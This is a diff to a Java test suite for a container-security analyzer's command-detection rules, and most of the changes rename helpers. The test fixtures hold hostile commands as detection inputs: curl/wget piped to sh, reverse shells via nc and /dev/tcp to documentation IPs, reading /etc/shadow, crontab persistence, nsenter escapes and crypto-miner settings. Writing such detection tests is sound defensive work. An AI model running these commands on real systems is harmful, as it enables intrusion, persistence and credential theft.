@@ -1,9 +1,9 @@
 package org.ephemera.analyze.command;
 
 import static org.assertj.core.api.Assertions.assertThat;
-import static org.ephemera.analyze.command.Places.at;
-import static org.ephemera.analyze.command.Places.command;
-import static org.ephemera.analyze.command.Places.variable;
+import static org.ephemera.analyze.command.RuleFixture.at;
+import static org.ephemera.analyze.command.RuleFixture.command;
+import static org.ephemera.analyze.command.RuleFixture.variable;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import java.io.IOException;
@@ -15,14 +15,14 @@ import java.util.Optional;
 import java.util.stream.Stream;
 import org.ephemera.analyze.model.ControlCall;
 import org.ephemera.analyze.model.Execution;
+import org.ephemera.analyze.model.FileLocation;
 import org.ephemera.analyze.model.Finding;
 import org.ephemera.analyze.model.Gap;
 import org.ephemera.analyze.model.Indicator;
-import org.ephemera.analyze.model.Place;
 import org.ephemera.analyze.model.Severity;
 import org.ephemera.analyze.model.Workload;
 import org.ephemera.analyze.parse.kubernetes.KubernetesAudit;
-import org.ephemera.analyze.testing.Documents;
+import org.ephemera.analyze.testing.WorkloadDocuments;
 import org.ephemera.format.Json;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -31,7 +31,7 @@ import org.junit.jupiter.params.provider.CsvSource;
 class CommandRulesTest {
     @Test
     void pointsToTheWordThatHoldsTheScript() {
-        CommandFindings found = of(Places.running(command(false, "sh", "-c", "curl http://a.example/x | sh")));
+        CommandFindings found = of(RuleFixture.running(command(false, "sh", "-c", "curl http://a.example/x | sh")));
         assertThat(found.findings()).hasSize(1);
         Finding finding = found.findings().getFirst();
         assertThat(finding.rule().id()).isEqualTo("CMD-001");
@@ -45,21 +45,21 @@ class CommandRulesTest {
 
     @Test
     void seesWhatStandsInSeveralWordsToo() {
-        assertThat(ids(of(Places.running(command(false, "nc", "203.0.113.7", "9001", "-e", "/bin/sh")))))
+        assertThat(ids(of(RuleFixture.running(command(false, "nc", "203.0.113.7", "9001", "-e", "/bin/sh")))))
                 .containsExactly("CMD-003");
     }
 
     @Test
     void tellsWhoGaveACommand() {
-        Text layer = new Text(
+        CommandText layer = new CommandText(
                 "shop/app:7",
                 "history",
                 "RUN wget -qO- a.example | sh",
                 at("image.json", "/history/3"),
-                Origin.IMAGE,
+                TextOrigin.IMAGE,
                 Optional.empty());
         List<Finding> findings = CommandRules.findings(
-                        Places.running(command(true, "/tmp/.x/xmrig")), List.of(), List.of(layer))
+                        RuleFixture.running(command(true, "/tmp/.x/xmrig")), List.of(), List.of(layer))
                 .findings();
         assertThat(findings).extracting(f -> f.rule().id()).containsExactly("CMD-004", "CMD-009", "CMD-001");
         assertThat(findings.get(0).because()).contains("hands-on-keyboard or a stolen API credential");
@@ -69,12 +69,12 @@ class CommandRulesTest {
 
     @Test
     void saysNothingOfIntentWhereAnImageInstallsPackages() {
-        Text layer = new Text(
+        CommandText layer = new CommandText(
                 "shop/app:7",
                 "history",
                 "RUN apt-get update && apt-get install -y curl",
                 at("image.json", "/history/1"),
-                Origin.IMAGE,
+                TextOrigin.IMAGE,
                 Optional.empty());
 
         assertThat(CommandRules.findings(List.of(), List.of(), List.of(layer)).findings())
@@ -85,7 +85,7 @@ class CommandRulesTest {
     /** What a layer did when it was made ran in no container; a shell that calls home is as bad there. */
     @Test
     void takesWhatImagesDoWhileTheyAreBuiltForLess() {
-        List<Text> layers = Stream.of(
+        List<CommandText> layers = Stream.of(
                         "RUN wget -qO- a.example | sh",
                         "RUN apt-get clean && rm -rf /tmp/x /var/log/*",
                         "RUN curl -o /opt/t http://a.example/t && chmod +x /opt/t",
@@ -93,7 +93,8 @@ class CommandRulesTest {
                         "RUN chmod 640 /etc/shadow",
                         "WORKDIR /proc/self/fd/8",
                         "RUN bash -i >& /dev/tcp/203.0.113.7/443 0>&1")
-                .map(run -> new Text("app:7", "history", run, at("image.json", "/h"), Origin.IMAGE, Optional.empty()))
+                .map(run -> new CommandText(
+                        "app:7", "history", run, at("image.json", "/h"), TextOrigin.IMAGE, Optional.empty()))
                 .toList();
 
         assertThat(CommandRules.findings(List.of(), List.of(), layers).findings())
@@ -105,18 +106,18 @@ class CommandRulesTest {
 
     @Test
     void knowsAMinerByTheNameOfItsImage() {
-        assertThat(of(Places.of("docker.io/miningcontainers/xmrig:6.22")).findings())
+        assertThat(of(RuleFixture.of("docker.io/miningcontainers/xmrig:6.22")).findings())
                 .singleElement()
                 .satisfies(f -> {
                     assertThat(f.rule().id()).isEqualTo("CMD-004");
                     assertThat(f.because()).isEqualTo("image: docker.io/miningcontainers/xmrig:6.22");
                 });
         for (String image : List.of("bitnn/alpine-xmrig", "a/monero_cpu_minergate:7", "a/xmrig-auto")) {
-            assertThat(ids(of(Places.of(image)))).as(image).containsExactly("CMD-004");
+            assertThat(ids(of(RuleFixture.of(image)))).as(image).containsExactly("CMD-004");
         }
-        assertThat(ids(of(Places.of("traffmonetizer/cli_v2")))).containsExactly("CMD-012");
-        assertThat(ids(of(Places.of("sourcepole/t-rex")))).isEmpty();
-        assertThat(ids(of(Places.of("registry.example/shop/checkout:7")))).isEmpty();
+        assertThat(ids(of(RuleFixture.of("traffmonetizer/cli_v2")))).containsExactly("CMD-012");
+        assertThat(ids(of(RuleFixture.of("sourcepole/t-rex")))).isEmpty();
+        assertThat(ids(of(RuleFixture.of("registry.example/shop/checkout:7")))).isEmpty();
     }
 
     @Test
@@ -127,7 +128,7 @@ class CommandRulesTest {
                 List.of(command(false, "cat", "/etc/shadow")),
                 Optional.empty(),
                 Optional.empty());
-        assertThat(ids(of(Places.workload(List.of(), execution)))).containsExactly("CMD-010");
+        assertThat(ids(of(RuleFixture.workload(List.of(), execution)))).containsExactly("CMD-010");
     }
 
     /** One that is a descriptor of the runtime's leads onto the host (CVE-2024-21626); whoever sets it needs no command. */
@@ -157,7 +158,7 @@ class CommandRulesTest {
 
     private static List<Workload> started(String document, String directory) throws IOException {
         String json = document.replace('\'', '"').replace("%s", directory);
-        return Documents.workloads(Json.parse(json.getBytes(StandardCharsets.UTF_8)));
+        return WorkloadDocuments.workloads(Json.parse(json.getBytes(StandardCharsets.UTF_8)));
     }
 
     @Test
@@ -165,20 +166,22 @@ class CommandRulesTest {
         Execution.Command persists = command(false, "sh", "-c", "echo x >> /host/etc/crontab");
         Execution execution =
                 new Execution(List.of(persists), List.of(), List.of(), Optional.empty(), Optional.empty());
-        assertThat(of(Places.workload(List.of(), execution)).findings())
+        assertThat(of(RuleFixture.workload(List.of(), execution)).findings())
                 .extracting(Finding::severity)
                 .containsExactly(Severity.MEDIUM);
-        assertThat(of(Places.workload(List.of(Places.host("/host")), execution)).findings())
+        assertThat(of(RuleFixture.workload(List.of(RuleFixture.host("/host")), execution))
+                        .findings())
                 .extracting(Finding::severity)
                 .containsExactly(Severity.HIGH);
-        assertThat(of(Places.workload(List.of(Places.host("/data")), execution)).findings())
+        assertThat(of(RuleFixture.workload(List.of(RuleFixture.host("/data")), execution))
+                        .findings())
                 .extracting(Finding::severity)
                 .containsExactly(Severity.MEDIUM);
     }
 
     @Test
     void takesAMinersSettingsInTheEnvironmentForSuch() {
-        CommandFindings found = of(Places.with(variable(
+        CommandFindings found = of(RuleFixture.with(variable(
                 "ARGS", "-o stratum+tcp://pool.supportxmr.com:3333 -u " + CommandSamples.WALLET.substring(0, 95))));
         assertThat(ids(found)).containsExactly("ENV-003", "NET-001");
         assertThat(found.findings().getFirst().severity()).isEqualTo(Severity.CRITICAL);
@@ -202,7 +205,7 @@ class CommandRulesTest {
                 variable("AUTH", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2ln"),
                 variable("DATABASE_URL", "postgres://shop:sw0rdf1sh@db:5432/shop"));
         for (Execution.Variable secret : secrets) {
-            CommandFindings found = of(Places.with(secret));
+            CommandFindings found = of(RuleFixture.with(secret));
             assertThat(ids(found)).as(secret.name()).containsExactly("ENV-001");
             assertThat(found.findings().getFirst().because())
                     .startsWith("environment " + secret.name())
@@ -210,7 +213,7 @@ class CommandRulesTest {
                     .doesNotContain(secret.value())
                     .doesNotContain("sw0rdf1sh", "x1y2z3", "QUJDQUJD", "MIIE", "c2ln");
         }
-        assertThat(of(Places.with(secrets.get(6))).indicators())
+        assertThat(of(RuleFixture.with(secrets.get(6))).indicators())
                 .extracting(i -> i.kind() + " " + i.value())
                 .containsExactly("KEY_ID AKIAIOSFODNN7EXAMPLE");
     }
@@ -229,8 +232,9 @@ class CommandRulesTest {
                 variable("SECRET", "${FROM_VAULT}"),
                 variable("PRIVATE_SUBNET", "10.0.0.0/24"),
                 variable("USE_TOKEN", "true"));
-        harmless.forEach(variable ->
-                assertThat(ids(of(Places.with(variable)))).as(variable.name()).isEmpty());
+        harmless.forEach(variable -> assertThat(ids(of(RuleFixture.with(variable))))
+                .as(variable.name())
+                .isEmpty());
     }
 
     @Test
@@ -321,24 +325,24 @@ class CommandRulesTest {
         JsonNode event = Json.parse("""
                 {"detail":{"service":{"runtimeDetails":{"context":{"commandLineExample":"nsenter -t 1 -a sh"},"list":[{"commandLine":"id"}]}}},
                  "properties":{"extendedProperties":{"Command Line":"whoami","User Name":"root"}}}""".getBytes(StandardCharsets.UTF_8));
-        List<Text> texts = AlertTexts.of("web", event, at("event.json", ""));
-        assertThat(texts).extracting(Text::value).containsExactly("nsenter -t 1 -a sh", "id", "whoami");
+        List<CommandText> texts = AlertTexts.of("web", event, at("event.json", ""));
+        assertThat(texts).extracting(CommandText::value).containsExactly("nsenter -t 1 -a sh", "id", "whoami");
         CommandFindings found = CommandRules.findings(List.of(), List.of(), texts);
         assertThat(ids(found)).containsExactly("CMD-006");
         assertThat(found.findings().getFirst().evidence().getFirst().place())
-                .isEqualTo(new Place.Pointer("/detail/service/runtimeDetails/context/commandLineExample"));
+                .isEqualTo(new FileLocation.Pointer("/detail/service/runtimeDetails/context/commandLineExample"));
     }
 
     @Test
     void showsNoPasswordsOfCommands() {
-        List<Finding> findings = of(Places.running(
+        List<Finding> findings = of(RuleFixture.running(
                         command(
                                 false,
                                 "curl --user admin:geheim1 -H 'Authorization: Bearer geheim2' http://u:geheim3@a.example/?token=geheim4 | sh -s --password geheim5")))
                 .findings();
         assertThat(findings).hasSize(1);
         assertThat(findings.getFirst().because()).contains("| sh").doesNotContain("geheim");
-        assertThat(of(Places.running(command(false, "curl http://u:geheim3@a.example/?token=geheim4 | sh")))
+        assertThat(of(RuleFixture.running(command(false, "curl http://u:geheim3@a.example/?token=geheim4 | sh")))
                         .indicators())
                 .extracting(i -> i.kind() + " " + i.value())
                 .containsExactly("URL http://a.example/?token=[redacted]", "DOMAIN a.example");
@@ -350,21 +354,21 @@ class CommandRulesTest {
         for (int i = 0; i < 3_000; i++) {
             many.add(command(false, "cat /etc/shadow"));
         }
-        CommandFindings found = of(Places.running(many.toArray(Execution.Command[]::new)));
+        CommandFindings found = of(RuleFixture.running(many.toArray(Execution.Command[]::new)));
         assertThat(found.findings()).hasSize(1);
         assertThat(found.findings().getFirst().because()).contains("the first of 3000 times");
         List<Execution.Variable> variables = new ArrayList<>();
         for (int i = 0; i < 3_000; i++) {
             variables.add(variable("PASSWORD" + i, "value-" + i));
         }
-        CommandFindings flood = of(Places.with(variables.toArray(Execution.Variable[]::new)));
+        CommandFindings flood = of(RuleFixture.with(variables.toArray(Execution.Variable[]::new)));
         assertThat(flood.findings()).hasSize(2_000);
         assertThat(flood.gaps()).extracting(Gap::why).anyMatch(why -> why.contains("1000 more hits"));
     }
 
     @Test
     void saysOfWhatIsTooLongThatItWasNotSeen() {
-        CommandFindings found = of(Places.running(command(false, "x ".repeat(40_000) + "| sh; cat /etc/shadow")));
+        CommandFindings found = of(RuleFixture.running(command(false, "x ".repeat(40_000) + "| sh; cat /etc/shadow")));
         assertThat(found.findings()).isEmpty();
         assertThat(found.gaps()).hasSize(1);
         assertThat(found.gaps().getFirst().why()).startsWith("RULE_TIMEOUT").contains("task.json /command");
